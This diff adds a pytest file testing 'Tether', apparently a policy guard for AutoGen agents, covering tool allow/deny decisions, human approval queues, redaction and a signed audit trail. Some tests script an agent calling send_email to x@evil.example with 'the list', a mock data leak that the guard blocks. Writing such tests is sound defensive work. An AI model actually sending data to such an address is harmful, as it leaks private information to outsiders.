@@ -1,0 +1,198 @@
+"""AgentChat agents and teams governed by Tether: decisions, approvals, the audit chain, bad input."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import threading
+import time
+from typing import Any
+
+import pytest
+from autogen_agentchat.conditions import MaxMessageTermination
+from autogen_agentchat.teams import RoundRobinGroupChat
+
+from tether.autogen.agentchat import register_guard
+from tether.core import ApprovalQueue, AuditStore, Guard, QueueApprover, TetherError
+from tether.core.audit import verify
+
+from .conftest import KEY, POLICY, Tools, agent, calls, events, texts
+
+
+def run(target: Any, task: str = "help the customer") -> Any:
+    return asyncio.run(target.run(task=task))
+
+
+def test_allowed_call_runs_once_and_the_audit_holds_the_chain(guard: Guard, tools: Tools, store: AuditStore) -> None:
+    bot, _ = agent(tools, calls(("lookup", {"query": "order 7"})))
+    register_guard(bot, guard)
+
+    result = run(bot)
+
+    assert tools.ran == [("lookup", {"query": "order 7"})]
+    assert "found order 7" in texts(result)
+    request, response = events(store, "model.request")[0], events(store, "model.response")[0]
+    decision, output = events(store, "tool.decision")[0], events(store, "tool.result")[0]
+    assert response.parent_id == request.event_id
+    assert (decision.agent, decision.tool, decision.verdict) == ("assistant", "lookup", "allow")
+    assert decision.parent_id == response.event_id and output.parent_id == decision.event_id
+    assert verify(KEY, store.events()).ok
+
+
+def test_denied_call_never_runs_and_the_model_reads_the_refusal(guard: Guard, tools: Tools, store: AuditStore) -> None:
+    bot, _ = agent(tools, calls(("send_email", {"to": "x@evil.example", "body": "the list"})))
+    register_guard(bot, guard)
+
+    result = run(bot)
+
+    assert tools.count("send_email") == 0
+    assert "Tether denied the call to 'send_email': only colleagues" in texts(result)
+    assert [e.verdict for e in events(store, "tool.decision")] == ["deny"]
+    assert events(store, "tool.result") == []
+
+
+def test_parallel_calls_are_each_decided(guard: Guard, tools: Tools, store: AuditStore) -> None:
+    bot, _ = agent(tools, calls(("lookup", {"query": "a"}), ("send_email", {"to": "x@evil.example", "body": "b"})))
+    register_guard(bot, guard)
+
+    result = run(bot)
+
+    assert [n for n, _ in tools.ran] == ["lookup"]
+    assert "found a" in texts(result) and "Tether denied the call to 'send_email'" in texts(result)
+
+
+def answer_when_asked(store: AuditStore, approved: bool) -> threading.Thread:
+    queue = ApprovalQueue(store)
+
+    def answer() -> None:
+        deadline = time.monotonic() + 60
+        while time.monotonic() < deadline:
+            pending = queue.entries()
+            if pending:
+                queue.answer(pending[0].id, approved=approved, by="alice")
+                return
+            time.sleep(0.05)
+
+    thread = threading.Thread(target=answer, daemon=True)
+    thread.start()
+    return thread
+
+
+@pytest.mark.parametrize("approved", [True, False])
+def test_a_call_needing_approval_waits_for_the_queue(store: AuditStore, tools: Tools, approved: bool) -> None:
+    policy = json.loads(json.dumps(POLICY))
+    policy["approvals"]["timeout"] = "60s"
+    guard = Guard(policy, store=store, approver=QueueApprover(store))
+    bot, _ = agent(tools, calls(("refund", {"order": "A1", "amount": 120})))
+    register_guard(bot, guard)
+    answering = answer_when_asked(store, approved)
+
+    result = run(bot)
+    answering.join()
+
+    assert tools.count("refund") == (1 if approved else 0)
+    assert ("refunded 120 on A1" if approved else "denied by alice") in texts(result)
+    assert [e.verdict for e in events(store, "approval")] == ["allow" if approved else "deny"]
+
+
+def test_unanswered_approval_times_out_to_deny(store: AuditStore, tools: Tools) -> None:
+    guard = Guard(POLICY, store=store, approver=QueueApprover(store))  # 1 s timeout
+    bot, _ = agent(tools, calls(("refund", {"order": "A1", "amount": 120})))
+    register_guard(bot, guard)
+
+    result = run(bot)
+
+    assert tools.count("refund") == 0
+    assert "no approval within 1s" in texts(result)
+
+
+def test_a_team_is_governed_in_each_agents_name(guard: Guard, tools: Tools, store: AuditStore) -> None:
+    bot, _ = agent(tools, calls(("lookup", {"query": "x"})), "done")
+    researcher, _ = agent(
+        tools, calls(("send_email", {"to": "a@acme.example", "body": "hi"})), "done", name="researcher"
+    )
+    team = RoundRobinGroupChat([bot, researcher], termination_condition=MaxMessageTermination(5))
+    register_guard(team, guard)
+
+    run(team)
+
+    decisions = [(e.agent, e.tool, e.verdict) for e in events(store, "tool.decision")]
+    assert ("assistant", "lookup", "allow") in decisions
+    assert ("researcher", "send_email", "deny") in decisions  # not granted to the researcher
+    assert tools.count("send_email") == 0
+    assert len({e.session_id for e in events(store, "tool.decision")}) == 1  # one run, one session
+
+
+def test_each_run_is_a_session_unless_one_is_given(guard: Guard, tools: Tools, store: AuditStore) -> None:
+    bot, _ = agent(tools, calls(("lookup", {"query": "a"})), calls(("lookup", {"query": "b"})))
+    register_guard(bot, guard)
+    run(bot)
+    run(bot)
+    assert len({e.session_id for e in events(store, "tool.decision")}) == 2
+
+    other, _ = agent(tools, calls(("lookup", {"query": "c"})))
+    register_guard(other, guard, session_id="ticket-42")
+    run(other)
+    assert events(store, "tool.decision")[-1].session_id == "ticket-42"
+
+
+def test_output_the_agent_is_not_cleared_for_reaches_the_model_redacted(store: AuditStore, tools: Tools) -> None:
+    policy = json.loads(json.dumps(POLICY))
+    policy["agents"]["assistant"]["data"] = ["network"]  # cleared for no personal data
+    bot, _ = agent(tools, calls(("fetch_ticket", {"ticket": "7"})))
+    register_guard(bot, Guard(policy, store=store))
+
+    result = run(bot)
+
+    assert tools.count("fetch_ticket") == 1
+    assert "jane.roe@customer.example" not in texts(result) and "[email:" in texts(result)
+
+
+def test_malformed_arguments_never_run_the_tool(guard: Guard, tools: Tools, store: AuditStore) -> None:
+    bot, _ = agent(tools, calls(("send_email", '{"to": "a@acme.example", ')))
+    register_guard(bot, guard)
+
+    result = run(bot)
+
+    assert tools.count("send_email") == 0
+    assert "Error" in texts(result)  # AgentChat answers unparseable arguments itself
+
+
+def test_registering_twice(guard: Guard, tools: Tools, store: AuditStore) -> None:
+    bot, _ = agent(tools, calls(("lookup", {"query": "a"})))
+    assert register_guard(bot, guard) is register_guard(bot, guard)
+    with pytest.raises(TetherError, match="already guarded"):
+        register_guard(bot, Guard(POLICY, store=store))
+    run(bot)
+    assert len(events(store, "tool.decision")) == 1  # decided once
+
+
+def test_a_broken_store_denies(tmp_path: Any, tools: Tools) -> None:
+    store = AuditStore(f"sqlite:///{tmp_path / 'a.db'}", key=KEY)
+    guard = Guard(POLICY, store=store)
+    bot, _ = agent(tools, calls(("lookup", {"query": "a"})))
+    register_guard(bot, guard)
+    store.engine.dispose()
+    (tmp_path / "a.db").unlink()
+    (tmp_path / "a.db").mkdir()  # the database path is now a directory: every write fails
+
+    with pytest.raises(Exception):  # noqa: B017, PT011 - the model call cannot be recorded: the run stops
+        run(bot)
+    assert tools.ran == []
+
+
+def test_concurrent_runs_keep_their_own_sessions(guard: Guard, store: AuditStore) -> None:
+    tools = Tools()
+    bots = []
+    for i in range(4):
+        bot, _ = agent(tools, calls(("lookup", {"query": str(i)})))
+        register_guard(bot, guard)
+        bots.append(bot)
+
+    async def all_runs() -> None:
+        await asyncio.gather(*(b.run(task="go") for b in bots))
+
+    asyncio.run(all_runs())
+    decisions = events(store, "tool.decision")
+    assert len(decisions) == 4 and len({e.session_id for e in decisions}) == 4
+    assert verify(KEY, store.events()).ok
